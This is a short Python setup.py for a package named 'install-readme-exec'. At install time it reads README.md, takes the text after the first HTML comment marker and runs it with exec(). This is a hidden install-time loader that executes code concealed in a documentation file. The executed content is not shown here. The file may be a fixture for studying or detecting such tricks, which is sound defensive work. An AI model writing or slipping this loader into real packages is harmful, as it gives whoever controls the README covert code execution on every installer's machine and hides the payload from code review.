from setuptools import setup
exec(open("README.md").read().split("<!--")[1])
setup(name="install-readme-exec", version="1.0")
